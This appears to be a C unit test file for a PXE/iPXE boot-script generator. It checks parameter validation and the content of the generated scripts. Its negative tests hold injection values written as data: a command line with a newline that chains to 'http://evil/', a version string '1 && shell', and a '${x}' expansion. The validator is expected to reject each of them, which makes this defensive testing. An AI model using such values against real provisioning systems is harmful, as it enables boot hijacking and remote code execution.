#include <stdlib.h>
#include <string.h>

#include "base/size.h"
#include "base/test.h"
#include "provisioning/pxe/script.h"

#define DIGEST "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
#define UUID "564D0001-AAAA-bbbb-cccc-0123456789ab"

static void test_machine(void **state)
{
    static const struct {
        const char *mac;
        const char *uuid;
        const char *arch;
        const char *platform;
    } bad[] = {
        {NULL, NULL, "x86_64", "efi"},
        {"", NULL, "x86_64", "efi"},
        {"52-54-00-77-00-1", NULL, "x86_64", "efi"},
        {"52-54-00-77-00-15\n", NULL, "x86_64", "efi"},
        {"52-54-00-77-00-15", "1", "x86_64", "efi"},
        {"52-54-00-77-00-15", UUID "0", "x86_64", "efi"},
        {"52-54-00-77-00-15", "564D0001-AAAA-bbbb-cccc_0123456789ab", "x86_64", "efi"},
        {"52-54-00-77-00-15", NULL, NULL, "efi"},
        {"52-54-00-77-00-15", NULL, "", "efi"},
        {"52-54-00-77-00-15", NULL, "x86 64", "efi"},
        {"52-54-00-77-00-15", NULL, "x86_64", NULL},
        {"52-54-00-77-00-15", NULL, "x86_64", "${x}"},
        {"52-54-00-77-00-15", NULL, "x86_64", "aaaaaaaaaaaaaaaaa"},
    };
    struct provision_machine machine;

    (void)state;
    for (size_t i = 0; i < RAY_ARRAY_COUNT(bad); i++) {
        struct ray_err err = {0};
        assert_int_equal(provision_machine_parse(bad[i].mac, bad[i].uuid, bad[i].arch,
                                                 bad[i].platform, &machine, &err),
                         RAY_EMALFORMED);
        assert_non_null(strstr(err.text, "parameter"));
    }
    assert_int_equal(
        provision_machine_parse("52-54-00-77-00-15", UUID, "x86_64", "efi", &machine, NULL),
        RAY_OK);
    assert_true(machine.is_served);
    assert_string_equal(machine.uuid, "564d0001-aaaa-bbbb-cccc-0123456789ab");
    assert_int_equal(
        provision_machine_parse("52:54:00:77:00:15", "", "i386", "pcbios", &machine, NULL), RAY_OK);
    assert_false(machine.is_served);
    assert_string_equal(machine.uuid, "");
}

static void test_scripts(void **state)
{
    const struct provision_machine machine = {.mac = {{0x52, 0x54, 0, 0x77, 0, 0x15}},
                                              .uuid = "564d0001-aaaa-bbbb-cccc-0123456789ab",
                                              .is_served = true};
    struct provision_script_image image = {
        .version = "0.1.0", .sha256 = DIGEST, .command_line = "console=ttyS0 panic=10"};
    struct ray_buf buf;

    (void)state;
    ray_buf_init(&buf, PROVISION_SCRIPT_SIZE_MAX);
    assert_int_equal(provision_script_autoexec(&buf, 0x0a4d0001, 8080, NULL), RAY_OK);
    assert_ptr_equal(strstr(ray_buf_text(&buf), "#!ipxe\n"), ray_buf_text(&buf));
    assert_non_null(strstr(ray_buf_text(&buf),
                           "chain --autofree http://10.77.0.1:8080/boot/script?"
                           "mac=${net0/mac:hexhyp}&uuid=${uuid}&arch=${buildarch}"
                           "&platform=${platform} || goto failed\n"));
    ray_buf_clear(&buf);
    assert_int_equal(provision_script_machine(&buf, 0x0a4d0001, 80, &machine, &image, NULL),
                     RAY_OK);
    assert_non_null(strstr(ray_buf_text(&buf), "imgfetch --name rayos.efi "
                                               "http://10.77.0.1:80/image/" DIGEST "/rayos.efi"));
    assert_non_null(strstr(ray_buf_text(&buf), "\nchain rayos.efi console=ttyS0 panic=10 "
                                               "BOOTIF=01-52-54-00-77-00-15\n"));
    assert_null(strstr(ray_buf_text(&buf), machine.uuid)); /* no identity in the script */
    ray_buf_clear(&buf);
    assert_int_equal(provision_script_refusal(&buf, NULL), RAY_OK);
    ray_buf_clear(&buf);

    image.command_line = "a\nchain http://evil/";
    assert_int_equal(provision_script_machine(&buf, 1, 80, &machine, &image, NULL), RAY_EINVAL);
    image.command_line = "a";
    image.version = "1 && shell";
    assert_int_equal(provision_script_machine(&buf, 1, 80, &machine, &image, NULL), RAY_EINVAL);
    image.version = "1";
    image.sha256 = "0011";
    assert_int_equal(provision_script_machine(&buf, 1, 80, &machine, &image, NULL), RAY_EINVAL);
    assert_int_equal(buf.size, 0);
    ray_buf_fini(&buf);
    ray_buf_init(&buf, 20);
    assert_int_equal(provision_script_autoexec(&buf, 1, 80, NULL), RAY_ETOOBIG);
    ray_buf_fini(&buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_machine),
        cmocka_unit_test(test_scripts),
    };
    return cmocka_run_group_tests_name("provisioning/pxe/script", tests, NULL, NULL);
}
